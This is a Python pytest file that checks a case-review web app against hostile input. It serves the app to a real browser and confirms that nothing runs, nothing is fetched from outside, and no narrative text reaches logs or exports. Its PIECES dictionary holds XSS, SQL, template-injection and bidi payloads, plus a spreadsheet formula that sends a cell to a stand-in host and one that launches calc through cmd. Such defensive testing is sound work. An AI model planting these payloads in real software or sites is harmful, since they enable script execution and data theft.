"""Whatever stands in a case is text: on every page, in every export, in the record, in the log, in messages.

A run of hostile ids, narratives and metadata is served by the real server to a real Chromium, reviewed with hostile
words, and exported in every format.
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
httpx = pytest.importorskip("httpx", reason="httpx is not installed")

from typer.testing import CliRunner  # noqa: E402

from secondlook.bundle import load_bundle  # noqa: E402
from secondlook.cli import app  # noqa: E402
from secondlook.config import ReviewConfig, ScoreConfig  # noqa: E402
from secondlook.readers import ReadOptions  # noqa: E402
from secondlook.review.database import Desk, open_desk  # noqa: E402
from secondlook.review.exports import FORMATS, export  # noqa: E402
from secondlook.review.inquiry import verify  # noqa: E402
from secondlook.review.intake import add_run  # noqa: E402
from secondlook.review.tables import CaseRow, Entry  # noqa: E402
from secondlook.score import score  # noqa: E402

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

TOLD, WENT = "The clerk told him everything.", "Nobody went to her house."
SECRET = "zanzibar"
"""A word of every narrative: it must be in no log and in no message."""

PIECES = {
    "script": "<script>document.title='taken'</script><img src=x onerror=\"document.title='taken'\"><svg onload=document.title='taken'>",
    "breakout": "</textarea></title></script></style></main>--></select>\"'><iframe src=javascript:document.title='taken'></iframe>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://elsewhere.example/a.css> </style>",
    "template": "{{ 7 * 191 }} {% for x in y %} {# #} ${7*191} #{7*191} <%= 7*191 %> {{ self._TemplateReference__context }}",
    "sql": "'; DROP TABLE cases; -- \" OR 1=1 /* %s %(x)s :x ? $1 \\'",
    "remote": "<img src=https://elsewhere.example/x.png> https://elsewhere.example/ //elsewhere.example <meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "formula": "=HYPERLINK(\"https://elsewhere.example/?\"&A1) @SUM(1) +cmd|' /C calc'!A0 -2+3",
    "bidi": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c \u05d4\u05e9\u05d5\u05d8\u05e8 e\u0301\u0301\u0301 \ufeff",
    "nul": "so few that the reader takes it for text: \x00 and \x1b[31mred\x1b[0m, a bell \x07, line ends \x85 \u2028 \u2029 \r\n \r and \ufffe.",
    "entities": "&lt;script&gt; &amp;amp; &#0; &#x202e; ]]> <![CDATA[ <!-- <?php ?>",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1ec\U0001f1e7 \U0010fffd",
}
LONG = 5_000_000
"""Characters of the longest narrative."""


def _narrative(number: int, piece: str) -> str:
    shows = (TOLD, WENT)[number % 2]
    return f"{piece} The {SECRET} banan ketor lomed. {shows} {piece} The priing sotus teved {number}. {piece}"


def _cases() -> list[dict[str, str]]:
    cases = [
        {
            "case_id": name if name == "nul" else f"{piece} {name}",  # in an id, the reader refuses controls
            "narrative": _narrative(number, piece),
            "received": "2026-01-02",
            f"unit {PIECES['script']}": piece,
            PIECES["formula"]: PIECES["formula"],
            PIECES["bidi"]: piece,
        }
        for number, (name, piece) in enumerate(PIECES.items())
    ]
    return cases


def _long() -> dict[str, str]:
    block = f"The {SECRET} banan ketor lomed. {PIECES['script']} "
    long = (block * (LONG // len(block) + 1))[: LONG - 200]
    return {"case_id": "five megabytes", "narrative": f"{long} {TOLD} {PIECES['script']}"}


@dataclass
class Served:
    """The desk, served by a process of its own to somebody who works alone."""

    place: Path
    url: str
    log: Path
    cookie: str
    cases: dict[str, int]

    def client(self) -> Any:
        return httpx.Client(base_url=self.url, cookies={"secondlook": self.cookie}, timeout=60)

    def pages(self) -> list[str]:
        """The address of every page, with hostile words wherever an address takes words."""
        pages = ["/", "/help", "/account", "/queues/1", "/queues/2", "/figures?run=1", "/nowhere/" + "%3Cscript%3E"]
        for piece in PIECES.values():
            pages += [
                f"/queues/1?{urlencode({'text': piece[:200]})}",
                f"/queues/1?{urlencode({'mode': piece[:200], 'reviewer': piece[:200]})}",
                f"/queues/1?{urlencode({'field.' + piece[:200]: piece[:200], 'order': 'random'})}",
                f"/queues/1?{urlencode({'status': piece[:200]})}",
                f"/patterns?{urlencode({'run': 1, 'by': piece[:200], 'count': 'flagged'})}",
            ]
        pages += [
            f"/patterns?{urlencode({'run': 1, 'by': name})}" for name in (f"unit {PIECES['script']}", PIECES["bidi"])
        ]
        return pages + [f"/cases/{key}{end}" for key in self.cases.values() for end in ("", "/print", "/text")]


@pytest.fixture(scope="module")
def served(tiny_bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("hostile")
    place, log = folder / "desk.sqlite", folder / "log"
    bundle, now = load_bundle(tiny_bundle), datetime.now(UTC)
    config = ScoreConfig(date_column="received", minimum_known_words=0, group_duplicates=False)
    desk = open_desk(place, create=True)
    for name, told, choices in (("run", _cases(), config), ("long", [_long()], ScoreConfig(minimum_known_words=0))):
        source = folder / f"{name}.jsonl"
        source.write_text("".join(json.dumps(case) + "\n" for case in told), encoding="utf-8")
        score([source], folder / name, bundle, choices, ReadOptions())
        add_run(desk, folder / name, bundle, ReviewConfig(double_share=0.0), now)
    with desk.reading() as session:
        cases = dict(session.query(CaseRow.case_id, CaseRow.id).order_by(CaseRow.id).tuples())
    desk.close()
    command = [sys.executable, "-m", "secondlook", "review", "open", "--desk", str(place), "--port", "0"]
    environment = {**os.environ, "PYTHONWARNINGS": "ignore", "PYTHONUNBUFFERED": "1"}
    with log.open("w") as said:
        process = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=said, text=True)
    try:
        assert process.stdout is not None
        found = re.search(r"(http://127\.0\.0\.1:\d+)(/enter\S+)", process.stdout.readline())
        assert found, log.read_text()
        url, link = found.groups()
        cookie = httpx.get(url + link).cookies["secondlook"]
        yield Served(place, url, log, cookie, cases)
    finally:
        process.kill()
        process.communicate()


def test_every_case_came_onto_the_desk_as_it_was(served: Served) -> None:
    desk = open_desk(served.place)
    with desk.reading() as session:
        stored = {row.row: row for row in session.query(CaseRow).filter(CaseRow.case_id != "five megabytes")}
        for number, (_, piece) in enumerate(PIECES.items(), start=1):
            assert stored[number].narrative == _narrative(number - 1, piece)
            assert piece in stored[number].details.values()
        assert len(stored) == len(PIECES)
        assert session.query(CaseRow).filter_by(case_id="five megabytes").one().narrative == _long()["narrative"]
    desk.close()


@dataclass
class Watched:
    """A page of a browser; what it asked for and what it said is noted."""

    page: Page
    asked: list[str]
    said: list[str]


@pytest.fixture
def watched(browser: Browser, served: Served) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.add_cookies([{"name": "secondlook", "value": served.cookie, "url": served.url}])
    page = context.new_page()
    page.set_default_timeout(30_000)
    seen = Watched(page, [], [])
    context.on("request", lambda request: seen.asked.append(request.url))
    context.on("weberror", lambda error: seen.said.append(str(error.error)))
    page.on("console", lambda message: seen.said.append(message.text))
    page.on("dialog", lambda dialog: seen.said.append(f"dialog: {dialog.message}"))
    yield seen
    context.close()


FOREIGN = """() => [...document.querySelectorAll("script, style, link, iframe, object, embed, base, meta[http-equiv], img")]
  .filter((one) => !(one.src || one.href || "").startsWith(location.origin + "/static/")).map((one) => one.outerHTML)"""


def test_in_a_browser_nothing_runs_nothing_is_fetched_and_all_is_text(served: Served, watched: Watched) -> None:
    page = watched.page
    for path in served.pages():
        page.goto(served.url + path)
        assert page.title() != "taken"
        assert page.evaluate(FOREIGN) == []
        read = page.locator("body").inner_text()
        assert "1337" not in read, path
        assert re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069]", read) is None, path
        if not path.endswith("/text"):
            assert page.locator("main").is_visible()
    assert {url for url in watched.asked if not url.startswith(served.url + "/")} == set()
    # A refusal that the page itself shows is also noted by the browser.
    assert [line for line in watched.said if "Failed to load resource" not in line] == []


def test_a_browser_shows_the_narrative_to_the_letter(served: Served, watched: Watched) -> None:
    for name in ("script", "breakout", "style", "template", "sql", "remote", "formula", "entities", "emoji"):
        key = served.cases[f"{PIECES[name]} {name}"]
        watched.page.goto(f"{served.url}/cases/{key}")
        number = list(PIECES).index(name)
        assert watched.page.locator("#narrative").text_content() == _narrative(number, PIECES[name])


def test_every_answer_is_plain_and_no_message_quotes_a_narrative(served: Served) -> None:
    with served.client() as client:
        for path in served.pages():
            answer = client.get(path)
            assert answer.status_code in (200, 303, 404, 422), (path, answer.status_code)
            assert "Traceback" not in answer.text
            assert "default-src 'none'" in answer.headers["content-security-policy"]
            if answer.status_code >= 400:
                assert SECRET not in answer.text


def _review(served: Served) -> None:
    """Decide on every case with hostile words; what cannot be stored is refused, and says so."""
    with served.client() as client:
        token = {"X-CSRF-Token": client.get("/api/session").json()["csrf"]}
        for (case_id, key), piece in zip(served.cases.items(), [*PIECES.values(), "the last"], strict=True):
            client.get(f"/cases/{key}").raise_for_status()
            state = client.get(f"/api/cases/{key}").json()

            def send(what: str, key: int = key, **body: Any) -> Any:
                return client.post(f"/api/cases/{key}/{what}", json=body, headers=token)

            words = "".join(c for c in piece if c not in "\0")
            for mode in ("told_suspect", "nobody_went"):
                answer = send("decide", mode=mode, verdict="confirm", reason=words, version=state["version"])
                assert answer.status_code == 200, answer.text
                state = answer.json()
                answer = send("mark", mode=mode, start=0, end=5, version=state["version"])
                assert answer.status_code == 200, answer.text
                state = answer.json()
            state = send("note", text=words, version=state["version"]).json()
            assert state["note"] == words, case_id
            for what, body in (
                ("note", {"text": "nul \0"}),
                ("decide", {"mode": piece, "verdict": "confirm"}),
                ("decide", {"mode": "told_suspect", "verdict": piece}),
                ("mark", {"mode": "told_suspect", "start": 0, "end": 1 << 30}),
                ("unmark", {"mark_id": 1 << 30}),
                ("note", {"text": SECRET * 5000}),
            ):
                answer = send(what, version=state["version"], **body)
                assert answer.status_code == 422, (what, answer.text)
                assert SECRET not in answer.json()["detail"]
            raw = f'{{"text": "half \\ud800 of a pair", "version": {state["version"]}}}'
            json_ = token | {"Content-Type": "application/json"}
            assert client.post(f"/api/cases/{key}/note", content=raw, headers=json_).status_code == 422
            large = json.dumps({"text": SECRET * 200_000, "version": 1})
            assert client.post(f"/api/cases/{key}/note", content=large, headers=json_).status_code == 413
            assert send("finish", version=state["version"]).json()["finished"]


@pytest.fixture(scope="module")
def reviewed(served: Served) -> Iterator[Desk]:
    _review(served)
    desk = open_desk(served.place)
    yield desk
    desk.close()


def test_hostile_words_of_a_reviewer_are_text_too(reviewed: Desk, served: Served, watched: Watched) -> None:
    for key in served.cases.values():
        for end in ("", "/print"):
            watched.page.goto(f"{served.url}/cases/{key}{end}")
            assert watched.page.evaluate(FOREIGN) == []
            assert watched.page.locator("main").is_visible()
    for path in ("/queues/1?status=finished", "/figures?run=1", "/patterns?run=1&count=confirmed"):
        watched.page.goto(served.url + path)
        assert watched.page.evaluate(FOREIGN) == []
    assert {url for url in watched.asked if not url.startswith(served.url + "/")} == set()
    assert [line for line in watched.said if "Failed to load resource" not in line] == []


@pytest.mark.parametrize("redact", [False, True], ids=["as it is", "redacted"])
@pytest.mark.parametrize("kind", FORMATS)
def test_every_export_holds_the_text(reviewed: Desk, tmp_path: Path, kind: str, redact: bool) -> None:
    out = tmp_path / "out"
    done = export(reviewed, "run", kind, out, datetime.now(UTC), redact=ReviewConfig() if redact else None)
    assert done.counts["annotations"] == len(PIECES)
    if kind == "jsonl":
        items = [json.loads(line) for line in out.read_text(encoding="utf-8").split("\n") if line]
        texts = {item["narrative"] for item in items}
        assert len(items) == len(PIECES)
        assert (texts == set(map(_narrative, range(len(PIECES)), PIECES.values()))) is not redact
        assert any("https://" in text for text in texts) is not redact
        for item in items:
            assert SECRET in item["narrative"]
            for passage in item["evidence"]:
                assert 0 <= passage["start"] < passage["end"] <= len(item["narrative"])
    if kind == "table":
        csv.field_size_limit(10**9)
        with out.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell[:40] for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []


@pytest.mark.parametrize("kind", FORMATS)
def test_five_megabytes_are_exported(reviewed: Desk, tmp_path: Path, kind: str) -> None:
    assert export(reviewed, "long", kind, tmp_path / "out", datetime.now(UTC)).counts["annotations"] == 1


def test_record_and_log_hold_no_narrative(reviewed: Desk, served: Served) -> None:
    with reviewed.reading() as session:
        assert verify(session).problems == []
        for entry in session.query(Entry):
            assert SECRET not in entry.detail
            assert entry.detail.isascii()
    assert served.log.read_text() == ""


def test_the_audit_shows_a_hostile_case_as_text(reviewed: Desk, served: Served) -> None:
    for case_id in served.cases:
        words = ["review", "audit", "--desk", str(served.place), "--case", case_id]
        done = CliRunner().invoke(app, words)
        assert done.exit_code == 0, done.output
        assert SECRET not in done.output
        assert re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.output) is None
